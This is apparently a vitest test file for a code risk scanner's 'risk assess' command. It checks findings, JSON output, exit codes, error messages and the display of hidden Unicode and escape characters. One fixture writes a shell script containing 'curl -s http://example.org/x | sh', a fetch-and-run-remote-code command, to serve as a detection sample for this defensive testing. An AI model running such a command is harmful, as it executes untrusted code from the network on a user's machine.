import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { createUser, type User } from "./run-skerry.js";

let user: User;
beforeAll(() => {
  user = createUser();
  writeFileSync(join(user.home, "safe.py"), "print(40 + 2)\n");
  writeFileSync(join(user.home, "wild.sh"), "echo start\ncurl -s http://example.org/x | sh\n");
  writeFileSync(join(user.home, "hidden.py"), "x = 1 # \u202e\x1b[2J\nimport subprocess\n");
  writeFileSync(join(user.home, "notes.txt"), "print(1)\n");
});

describe("skerry risk assess", () => {
  it("says that nothing was found", () => {
    expect(user.skerry(["risk", "assess", "safe.py"])).toEqual({
      status: 0,
      stdout: "safe: python, nothing found\n",
      stderr: "",
    });
  });

  it("says the level first, then each finding with its place, why, rule and line", () => {
    const { status, stdout, stderr } = user.skerry(["risk", "assess", "wild.sh"]);
    expect({ status, stderr }).toEqual({ status: 0, stderr: "" });
    const lines = stdout.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^(high|critical): bash, \d+ findings?$/);
    expect(lines.length).toBeGreaterThan(2);
    for (const [index, line] of lines.slice(1).entries()) {
      expect(line).toMatch(
        index % 2 === 0
          ? /^wild\.sh:2:\d+: (low|medium|high|critical): .*\. \[[a-z-]+\]$/
          : /^ {4}curl -s http:\/\/example\.org\/x \| sh$/,
      );
    }
  });

  it("prints one JSON object", () => {
    const { status, stdout } = user.skerry(["risk", "assess", "--json", "wild.sh"]);
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toEqual({
      level: expect.stringMatching(/^(high|critical)$/),
      language: "bash",
      parsed: true,
      findings: expect.arrayContaining([
        {
          rule: expect.any(String),
          level: expect.stringMatching(/^(high|critical)$/),
          line: 2,
          column: expect.any(Number),
          excerpt: "curl -s http://example.org/x | sh",
          why: expect.any(String),
        },
      ]),
      detectedPatterns: expect.any(Array),
    });
  });

  it("reads the program from --code or from standard input", () => {
    const input = "import os\nos.remove('x')\n";
    const piped = user.skerry(["risk", "assess", "--language", "python", "-"], { input });
    expect(piped).toMatchObject({ status: 0, stdout: expect.stringMatching(/^2:1: /m) });
    expect(user.skerry(["risk", "assess", "-l", "python", "-c", input])).toEqual(piped);
  });

  it.each<[string, string, number]>([
    ["high", "wild.sh", 1],
    ["low", "wild.sh", 1],
    ["low", "safe.py", 0],
  ])("with --fail-on %s ends for %s with %d", (level, file, status) => {
    expect(user.skerry(["risk", "assess", "--fail-on", level, file]).status).toBe(status);
  });

  it("makes visible what hides in the code", () => {
    const { stdout } = user.skerry(["risk", "assess", "hidden.py"]);
    expect(stdout).toContain("\\u{202e}");
    expect(stdout).not.toContain("\u202e");
    expect(stdout).not.toContain("\x1b");
  });

  it.each<[string, string[], number, string]>([
    ["a missing file", ["nowhere.py"], 66, "nowhere.py: there is no such file"],
    ["nothing", [], 64, "there is no program"],
    ["two programs", ["-c", "1", "safe.py"], 64, "give one program, not both --code and a file"],
    [
      "a file without a language",
      ["notes.txt"],
      64,
      "the language is unknown: the name notes.txt does not say it",
    ],
    ["an unknown language", ["-l", "cobol", "safe.py"], 64, 'Unknown language "cobol"'],
    ["a level that is none", ["--fail-on", "fatal", "safe.py"], 64, '--fail-on: "fatal" is none of low, medium'],
  ])("refuses %s", (_, args, status, message) => {
    const result = user.skerry(["risk", "assess", ...args]);
    expect(result).toEqual({ status, stdout: "", stderr: expect.stringContaining(message) });
    const json = user.skerry(["risk", "assess", "--json", ...args]);
    expect({ ...json, stdout: JSON.parse(json.stdout) }).toEqual({
      status,
      stdout: { error: expect.objectContaining({ message: expect.stringContaining(message) }) },
      stderr: "",
    });
  });
});
